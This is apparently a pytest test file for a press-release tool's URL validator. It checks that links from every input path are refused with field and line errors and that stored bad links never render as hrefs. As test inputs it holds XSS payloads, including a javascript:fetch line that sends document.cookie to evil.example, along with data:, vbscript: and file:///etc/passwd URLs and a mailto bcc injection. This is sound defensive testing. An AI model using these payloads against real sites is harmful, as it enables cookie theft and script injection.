"""Links entering a release: one check (distro.urls) on every path (TOML file, CLI flags, text
import, the service functions a later API or form calls), errors naming the field and line, and
a link stored before the check never written into an href."""

from __future__ import annotations

import re
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import httpx
import pydantic
import pytest
from sqlalchemy import Engine
from sqlmodel import Session, select

from distro.config import Settings, secret_key
from distro.errors import ConfigError, FieldError, ValidationError
from distro.models import Release, ReleaseStatus
from distro.models.types import utcnow
from distro.releases.inputs import AssetLink, markdown_links
from distro.releases.lifecycle import approve, edit_release
from distro.releases.service import create_release
from distro.rendering import RenderedEmail, make_environment
from distro.sending.compose import SAMPLE_CONTACT, Composer
from distro.tracking.links import LinkSigner
from distro.urls import LINK_SCHEMES, WEB_SCHEMES, UrlError, check_url
from tests.cli_support import run, run_json
from tests.conftest import LiveDistro, make_settings
from tests.test_release_cli import RELEASE_TOML, one_line_error, workdir

__all__ = ["workdir"]  # the fixture, imported for pytest

# --- the check itself ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://harborlibrary.example/photos.zip",
        "http://harborlibrary.example:8080/a?b=c#d",
        "HTTPS://Example.org/Upper",
        "https://bücher.example/",
        "https://[2001:db8::1]/x",
        "mailto:press@harborlibrary.example",
        "mailto:press@harborlibrary.example?subject=Archive",
        "  https://padded.example/  ",
    ],
)
def test_ordinary_links_pass(url: str) -> None:
    assert check_url(url) == url.strip()


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("javascript:alert(1)", "javascript: URLs are not accepted, only http://, https:// and"),
        ("JavaScript:alert(1)", "javascript: URLs are not accepted"),
        ("data:text/html;base64,PHNjcmlwdD4=", "data: URLs are not accepted"),
        ("vbscript:msgbox", "vbscript: URLs are not accepted"),
        ("file:///etc/passwd", "file: URLs are not accepted"),
        ("tel:+15035550142", "tel: URLs are not accepted"),
        ("/press/kit.zip", "not a full URL: it must start with http://, https:// or mailto:"),
        ("www.example.org/kit", "not a full URL"),
        ("", "empty"),
        ("https://", "no host name"),
        ("https:example.org", "no host name"),
        ("https://user:secret@example.org/kit", "credentials"),
        ("https://example.org@evil.example/", "credentials"),
        ("https://example.org:0/", "port"),
        ("https://example.org:70000/", "port"),
        ("https://exa mple.org/", "a space at character 12"),
        ("https://example.org/\tkit", "control character (U+0009) at character 21"),
        ("https://example.org/\x00", "control character (U+0000)"),
        ("https://exam\u200bple.org/", "invisible or control character (U+200B)"),
        ("https://example.org/\u202ekit", "U+202E"),
        ("https://good.example\\@evil.example/", "the character '\\\\'"),
        ('https://example.org/"onmouseover="x', "the character '\"'"),
        ("https://ex%61mple.org/", "is not a valid host name"),
        ("https://a..b/", "is not a valid host name"),
        ("mailto:", "needs an email address"),
        ("mailto://press@example.org", "without //"),
        ("https://example.org/" + "a" * 2000, "longer than 2000 characters"),
    ],
)
def test_dangerous_or_broken_links_are_refused_with_the_reason(url: str, reason: str) -> None:
    with pytest.raises(UrlError) as caught:
        check_url(url, LINK_SCHEMES)
    assert reason in str(caught.value)


def test_addresses_distro_requests_itself_are_http_only() -> None:
    assert check_url("https://hooks.example/in", WEB_SCHEMES) == "https://hooks.example/in"
    with pytest.raises(UrlError, match="mailto: URLs are not accepted, only http:// and https://"):
        check_url("mailto:a@b.example", WEB_SCHEMES)


def test_release_input_models_carry_the_check_for_any_later_api_or_form() -> None:
    assert AssetLink(label="Photos", url="https://x.example/p.zip").url == "https://x.example/p.zip"
    with pytest.raises(pydantic.ValidationError, match="javascript: URLs are not accepted"):
        AssetLink.model_validate({"label": "Kit", "url": "javascript:alert(1)"})


@pytest.mark.parametrize(
    ("public_url", "reason"),
    [
        ("https://user:pw@press.example.org", "credentials"),
        ("https://press.example.org/\u202e", "U+202E"),
        ("javascript:alert(1)//", "javascript: URLs are not accepted"),
    ],
)
def test_the_public_url_every_email_link_starts_with_is_checked_alike(
    public_url: str, reason: str
) -> None:
    with pytest.raises((ConfigError, pydantic.ValidationError)) as caught:
        make_settings("sqlite://", server={"public_url": public_url})
    assert reason in str(caught.value)


# --- every way a link enters a release -----------------------------------------------------------

SECOND_ASSET = """
[[asset_links]]
label = "Press kit"
url = "javascript:alert(document.cookie)"
"""


def test_toml_file_names_the_field_and_its_line(workdir: Path) -> None:
    path = workdir / "release.toml"
    path.write_text(RELEASE_TOML + SECOND_ASSET, encoding="utf-8")
    bad_line = 1 + RELEASE_TOML.count("\n") + SECOND_ASSET.count("\n") - 1
    error = one_line_error(run(workdir, "release", "create", "--from-file", str(path)))
    assert f"release.toml line {bad_line}: asset_links[2].url: " in error
    assert "'javascript:alert(document.cookie)': javascript: URLs are not accepted" in error
    assert run_json(workdir, "release", "list", "--json") == []


def test_toml_body_link_and_contact_address_are_checked_too(workdir: Path) -> None:
    path = workdir / "release.toml"
    body_link = RELEASE_TOML.replace(
        "- a reading room for reporters.", "- a [reading room](data:text/html,hi)."
    )
    path.write_text(body_link, encoding="utf-8")
    error = one_line_error(run(workdir, "release", "create", "--from-file", str(path)))
    assert "release.toml: body line 4: link 'data:text/html,hi': data: URLs are not" in error
    path.write_text(
        RELEASE_TOML.replace("press@harborlibrary.example", "press@x.example?bcc=all@x.example"),
        encoding="utf-8",
    )
    error = one_line_error(run(workdir, "release", "create", "--from-file", str(path)))
    assert re.search(r"release\.toml line \d+: media_contacts\[1\]\.email: ", error)
    assert "is not an email address" in error
    assert run_json(workdir, "release", "list", "--json") == []


def test_asset_flag_names_the_field(workdir: Path) -> None:
    body = workdir / "body.md"
    body.write_text("The archive opens.\n", encoding="utf-8")
    create = ("release", "create", "--title", "Archive", "--body-file", str(body))
    for asset, reason in [
        ("Kit | https://editor:hunter2@harborlibrary.example/kit.zip", "credentials"),
        ("Kit | https://harborlibrary.example/kit\u202e.zip", "U+202E"),
        ("Kit | javascript:alert(1)", "javascript: URLs are not accepted"),
    ]:
        error = one_line_error(run(workdir, *create, "--asset", asset))
        assert "asset_links[1].url: " in error
        assert reason in error
    assert run_json(workdir, "release", "list", "--json") == []
    created = run_json(workdir, *create, "--asset", "Kit | https://x.example/kit.zip", "--json")
    edit = ("release", "edit", str(created["id"]), "--asset", "Ok | https://x.example/a")
    error = one_line_error(run(workdir, *edit, "--asset", "Bad | data:,x"))
    assert "asset_links[2].url: 'data:,x': data: URLs are not accepted" in error
    shown = run_json(workdir, "release", "show", str(created["id"]), "--json")
    assert shown["assets"] == [{"label": "Kit", "url": "https://x.example/kit.zip"}]


IMPORTED = """Harbor City Library opens its newspaper archive

HARBOR CITY, Ore. -- The Harbor City Public Library today opened its archive of
the Harbor Record, two million pages free to search from home.

Reporters can [download the press kit](javascript:fetch('//evil.example/'+document.cookie))
or <a href="vbscript:msgbox">see the photos</a>.

Media contact: Priya Raman, press@harborlibrary.example
"""


def test_text_import_names_the_line_of_the_file(workdir: Path) -> None:
    path = workdir / "pasted.md"
    path.write_text(IMPORTED, encoding="utf-8")
    error = one_line_error(run(workdir, "release", "import", str(path)))
    assert f'{path} line 6: link "javascript:fetch(' in error
    assert "javascript: URLs are not accepted" in error
    path.write_text(IMPORTED.replace("javascript:fetch", "https://example.org/fetch"), "utf-8")
    error = one_line_error(run(workdir, "release", "import", str(path)))
    assert f"{path} line 7: link 'vbscript:msgbox': vbscript: URLs are not accepted" in error
    assert run_json(workdir, "release", "list", "--json") == []


def test_markdown_links_are_found_wherever_markdown_puts_them() -> None:
    text = (
        "Intro [a](https://a.example) and\n"  # 1
        "![img](https://b.example/i.png) <https://c.example>\n"  # 2
        "\n"
        "- item [ref]\n"  # 4
        "\n"
        '<div><a href="https://d.example">d</a>\n'  # 6
        '<img src="https://e.example/e.png"></div>\n'  # 7
        "\n"
        "[ref]: https://f.example\n"
    )
    assert list(markdown_links(text)) == [
        (1, "https://a.example"),
        (2, "https://b.example/i.png"),
        (2, "https://c.example"),
        (4, "https://f.example"),
        (6, "https://d.example"),
        (7, "https://e.example/e.png"),
    ]


def test_service_functions_refuse_for_every_caller(engine: Engine) -> None:
    with Session(engine) as session:
        with pytest.raises(FieldError) as caught:
            create_release(
                session,
                title="Archive",
                body_md="Text.",
                asset_links=[{"label": "Kit", "url": "https://x.example/k"}, {"label": "Map"}],
            )
        assert caught.value.field == "asset_links[2].url"
        assert str(caught.value) == "asset_links[2].url: is missing"
        release = create_release(session, title="Archive", body_md="Text.")
        with pytest.raises(
            FieldError, match=r"^boilerplate line 2: link '/about' is not a full URL"
        ):
            edit_release(session, release, {"boilerplate": "About us.\nSee [more](/about)."})
        assert release.boilerplate == ""


# --- a link stored before the check --------------------------------------------------------------

BAD_ASSET = {"label": "Press kit", "url": "javascript:alert(document.domain)"}


def stored_with_bad_asset(engine: Engine, status: ReleaseStatus) -> Release:
    """A release as an older distro stored it: the bad URL written straight into the row."""
    with Session(engine, expire_on_commit=False) as session:
        release = create_release(session, title="Old release", body_md="Old text.")
        release.asset_links = [{"label": "Photos", "url": "https://x.example/p.zip"}, BAD_ASSET]
        release.status = status
        release.published_at = utcnow() - timedelta(hours=1)
        session.add(release)
        session.commit()
        return release


def test_a_stored_bad_link_is_never_rendered_as_a_link(
    engine: Engine, live_distro_factory: Callable[..., LiveDistro]
) -> None:
    live = live_distro_factory(engine)
    release = stored_with_bad_asset(engine, ReleaseStatus.SENT)
    page = httpx.get(f"{live.url}/releases/{release.slug}", timeout=10)
    assert page.status_code == 200
    email = composed(live.settings, release)
    for rendered in (page.text, email.html, email.text):
        assert "javascript:" not in rendered
        assert "Press kit" in rendered  # the label stays, as text
        assert "https://x.example/p.zip" in rendered
    assert "<li>Press kit</li>" in page.text
    assert "<li>Press kit</li>" in email.html
    assert "\n- Press kit\n" in email.text


def composed(settings: Settings, release: Release) -> RenderedEmail:
    composer = Composer(
        settings, make_environment(), LinkSigner(secret_key(settings)), release, "release"
    )
    return composer.render(1, SAMPLE_CONTACT)


def test_a_stored_bad_link_holds_back_approval_until_edited(engine: Engine) -> None:
    release = stored_with_bad_asset(engine, ReleaseStatus.DRAFT)
    with Session(engine) as session:
        draft = session.exec(select(Release).where(Release.id == release.id)).one()
        with pytest.raises(ValidationError) as caught:
            approve(draft)
        assert f"release {release.id} cannot be approved: asset_links[2].url: " in str(caught.value)
        assert draft.status == ReleaseStatus.DRAFT
        edit_release(session, draft, {"asset_links": draft.asset_links[:1]})
        approve(draft)
        assert draft.status == ReleaseStatus.APPROVED
